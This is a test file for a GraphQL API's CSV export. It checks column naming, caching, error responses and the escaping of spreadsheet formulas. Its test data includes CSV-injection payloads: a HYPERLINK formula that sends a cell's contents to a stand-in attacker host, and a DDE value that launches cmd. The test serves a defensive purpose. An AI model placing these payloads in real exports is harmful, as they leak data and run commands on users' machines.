import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { onEveryEngine } from '../engines.ts';
import { publication, smallCatalogue, source } from '../records.ts';
import { serve, type Served } from './serve.ts';
import { log } from '../../src/observe/log.ts';

/** What people write, and what they write to do harm. */
const hostile = [
  '=HYPERLINK("https://evil.example?"&A1;"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1;2)',
  '＝1+1',
  'He said "no", twice; and, again',
  'Žrtve trgovine ljudima – Жртве',
  '"',
  ',',
  "'=1",
];
const titles = hostile.map((title, number) =>
  publication(`hostile-${number}`, { title, summary: 'plain', date: '1999', publishers: ['organisation/hostile'] }),
);
const authors = ['person/equals', 'person/semicolon'];
const records = [
  ...smallCatalogue,
  { kind: 'organisation', id: 'organisation/hostile', name: '=1+1', source } as const,
  { kind: 'person', id: authors[0]!, name: '=cmd', source } as const,
  { kind: 'person', id: authors[1]!, name: 'A; B', source } as const,
  ...titles,
  publication('two-authors', { date: '1998', authors: ['person/author', ...authors] }),
];

onEveryEngine('any list as CSV', (engine) => {
  let served: Served;
  beforeAll(async () => {
    served = await serve(engine, records);
  });
  afterAll(() => served.close());

  const get = (
    query: string,
    rest: Record<string, string> = {},
    headers: Record<string, string> = { accept: 'text/csv' },
  ) => fetch(`${served.url}/graphql?${new URLSearchParams({ query, ...rest })}`, { headers });
  /** The rows as another program reads them. */
  const rowsOf = (text: string) =>
    parse(text, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
  const table = async (query: string, rest?: Record<string, string>) => rowsOf(await (await get(query, rest)).text());
  const problem = async (query: string, rest?: Record<string, string>) => {
    const response = await get(query, rest);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(response.headers.get('cache-control')).toBe('no-store');
    return [response.status, ((await response.json()) as { detail: string }).detail];
  };
  const guides = '{countries: ["country/RS"], projects: ["project/rest"]}';

  it('has a row for each item and a column for each value asked for', async () => {
    const query = `{ publications(filter: ${guides}, first: 2) { totalCount nodes {
      id title doi publishers { name country { name } } project { acronym } url } } }`;
    const response = await get(query);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBeNull();
    const text = await response.text();
    expect(text.split('\r\n')[0]).toBe(
      '"id","title","doi","publishers.name","publishers.country.name","project.acronym","url"',
    );
    expect(rowsOf(text)).toEqual([
      {
        id: 'publication/brief',
        title: 'Title of brief',
        doi: '10.1000/brief',
        'publishers.name': 'ASTRA',
        'publishers.country.name': 'Serbia',
        'project.acronym': 'REST',
        url: 'https://www.example.org/brief/?utm_source=x',
      },
      {
        id: 'publication/guide',
        title: 'Title of guide',
        doi: '',
        'publishers.name': 'LEFÖ-IBF; ASTRA',
        'publishers.country.name': 'Austria; Serbia',
        'project.acronym': 'REST',
        url: 'https://example.org/guide/',
      },
    ]);
  });

  it('reads edges as their nodes, and aliases as names', async () => {
    const query = `{ related(to: {id: "publication/brief"}, first: 1) { edges {
      score node { name: title id } reasons { share entity { id } } alsoIn { id language } } } }`;
    const [row] = await table(query);
    expect(Object.keys(row!)).toEqual([
      'score',
      'name',
      'id',
      'reasons.share',
      'reasons.entity.id',
      'alsoIn.id',
      'alsoIn.language',
    ]);
    const { data } = (await (await get(query, {}, { accept: 'application/json' })).json()) as {
      data: {
        related: {
          edges: { score: number; node: { id: string }; reasons: { share: number; entity: { id: string } | null }[] }[];
        };
      };
    };
    const [edge] = data.related.edges;
    expect(row).toMatchObject({ score: String(edge!.score), id: edge!.node.id });
    expect(row!['reasons.share']).toBe(edge!.reasons.map(({ share }) => share).join('; '));
    // What a reason does not have keeps its place.
    expect(row!['reasons.entity.id']).toBe(edge!.reasons.map(({ entity }) => entity?.id ?? '').join('; '));
  });

  it('names a column by its whole path where two would be called the same', async () => {
    const query = `{ changes(first: 1) { edges { cursor node { id } } } }`;
    expect(Object.keys((await table(query))[0]!)).toEqual(['cursor', 'id']);
    const twice = `{ related(to: {id: "publication/brief"}, first: 1) { edges { id: score node { id } } } }`;
    expect(Object.keys((await table(twice))[0]!)).toEqual(['id', 'node.id']);
  });

  it('opens fragments, and leaves out what the question leaves out', async () => {
    const query = `query Q($with: Boolean!) { nodes(ids: ["country/RS", "theme/asylum", "country/XX"]) {
      ...Labels id @skip(if: $with) } } fragment Labels on Node { __typename ... on Country { name } ... on Theme { label } }`;
    expect(await table(query, { variables: '{"with": true}' })).toEqual([
      { __typename: 'Country', name: 'Serbia', label: '' },
      { __typename: 'Theme', name: '', label: 'asylum' },
      { __typename: '', name: '', label: '' },
    ]);
    expect(Object.keys((await table(query, { variables: '{"with": false}' }))[0]!)).toContain('id');
  });

  it('has a column for each dimension of what was counted', async () => {
    const query = 'query Q($by: [Dimension!]!) { counts(by: $by, first: 3) { values count } }';
    const rows = await table(query, { variables: '{"by": ["THEME", "COUNTRY"]}' });
    expect(rows[0]).toEqual({ theme: 'theme/residence', country: 'country/AT', count: '3' });
    expect(Object.keys((await table('{ counts(by: YEAR) { n: count values } }'))[0]!)).toEqual(['n', 'year']);
  });

  it('has its columns where it has no rows', async () => {
    const query = '{ publications(filter: {yearFrom: 2999}) { nodes { id title } } }';
    const response = await get(query);
    expect([await response.text(), response.headers.get('x-row-count')]).toEqual(['"id","title"\r\n', '0']);
  });

  it('finds the one list wherever it stands', async () => {
    const query = '{ country(id: "country/AT") { name publications(first: 2) { nodes { id } } } }';
    expect(await table(query)).toEqual([{ id: 'publication/guide-2' }, { id: 'publication/guide-de' }]);
    expect(await problem(query.replace('country/AT', 'country/XX'))).toEqual([
      404,
      'There is nothing at country.publications.nodes to make a table of.',
    ]);
  });

  it('brings every text back as it was, save for what a spreadsheet would carry out', async () => {
    const query = '{ publications(filter: {yearTo: 1999, yearFrom: 1999}) { nodes { id title publishers { name } } } }';
    const rows = await table(query);
    const found = new Map(rows.map(({ id, title }) => [id, title]));
    for (const [number, title] of hostile.entries()) {
      const isFormula = /^[=+\-@＝]/.test(title);
      expect(found.get(`publication/hostile-${number}`)).toBe(isFormula ? `'${title}` : title);
    }
    for (const row of rows) {
      expect(row['publishers.name']).toBe("'=1+1");
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('joins the values of a list inside a row', async () => {
    const query =
      '{ publications(filter: {yearTo: 1998, yearFrom: 1998}) { nodes { authors { ... on Person { name } } } } }';
    expect(await table(query)).toEqual([{ 'authors.name': 'An Author; =cmd; A; B' }]);
  });

  it('is a file that Excel reads where it is asked for by a link', async () => {
    const query = 'query my_table { publications(first: 3) { nodes { title } } }';
    const response = await get(query, { format: 'csv' }, { accept: 'text/html,*/*;q=0.8' });
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="my_table.csv"');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rowsOf(bytes.toString())).toHaveLength(3);
    const plain = await get('{ country(id: "country/AT") { publications { nodes { title } } } }', { format: 'csv' });
    expect(plain.headers.get('content-disposition')).toBe('attachment; filename="publications.csv"');
    const withoutLink = Buffer.from(await (await get(query)).arrayBuffer());
    expect(withoutLink.toString()).toBe(bytes.toString().slice(1));
  });

  it('can be posted for', async () => {
    const response = await fetch(`${served.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'text/csv' },
      body: JSON.stringify({
        query:
          'query Q($after: String) { publications(first: 2, after: $after) { nodes { id } pageInfo { hasNextPage endCursor } } }',
      }),
    });
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(rowsOf(await response.text())).toHaveLength(records.filter(({ kind }) => kind === 'publication').length);
  });

  it('can be kept, and is told by a tag', async () => {
    const query = '{ publications(first: 3) { nodes { title } } }';
    const { headers } = await get(query);
    expect(headers.get('cache-control')).toMatch(/^public, max-age=60/);
    const again = await get(query, {}, { accept: 'text/csv', 'if-none-match': headers.get('etag')! });
    expect([again.status, again.headers.get('x-row-count')]).toEqual([304, '3']);
    const asJson = await get(query, {}, { accept: 'application/json' });
    expect(asJson.headers.get('etag')).not.toBe(headers.get('etag'));
    expect(asJson.headers.get('vary')).toContain('accept');
  });

  it.each([
    [
      '{ status { revision } }',
      400,
      'There is no list in the query to make a table of; ask for one, such as publications.',
    ],
    ['{ publication(id: "publication/guide") { urls } }', 400, /^There is no list/],
    [
      '{ a: counts(by: YEAR) { count } publications { edges { cursor } nodes { id } } }',
      400,
      'A table is made of one list; the query has a and publications.edges and publications.nodes. Ask for one of them.',
    ],
    ['{ titel }', 400, /Cannot query field "titel"/],
    ['{', 400, /Syntax Error/],
    ['query Q($id: ID!) { nodes(ids: [$id]) { id } }', 400, /"\$id" of required type/],
    ['{ counts(by: []) { count } }', 400, 'by: 0 dimensions were given; give one or two.'],
    ['{ related(to: {id: "publication/nowhere"}) { nodes { id } } }', 404, /is not in the catalogue/],
  ])('says what is wrong with %s', async (query, status, detail) => {
    expect(await problem(query)).toEqual([status, typeof detail === 'string' ? detail : expect.stringMatching(detail)]);
  });

  it('is JSON where a link asks for that', async () => {
    const response = await get('{ __typename }', { format: 'json' }, { accept: 'text/html' });
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
  });

  it.each([
    ['format=xml', {}, 400, 'format=xml is not a format of /graphql; there are json and csv.'],
    [
      '',
      { accept: 'text/html' },
      406,
      '/graphql answers in application/json, application/graphql-response+json, text/csv.',
    ],
  ])('knows no other format: %s %o', async (search, headers: Record<string, string>, status, detail) => {
    const response = await fetch(`${served.url}/graphql?query={__typename}&${search}`, { headers });
    expect([response.status, await response.json()]).toEqual([status, { type: 'about:blank', status, detail }]);
  });

  it('gives no half table when something fails inside', async () => {
    const said = vi.spyOn(log, 'error').mockReturnValue();
    served.failReads(true);
    const answer = await problem('{ publications(first: 3) { nodes { statements { id } } } }');
    served.failReads(false);
    said.mockRestore();
    expect(answer).toEqual([
      500,
      'Something went wrong here. Try again; if it stays, tell us the X-Request-Id of this answer.',
    ]);
  });
});
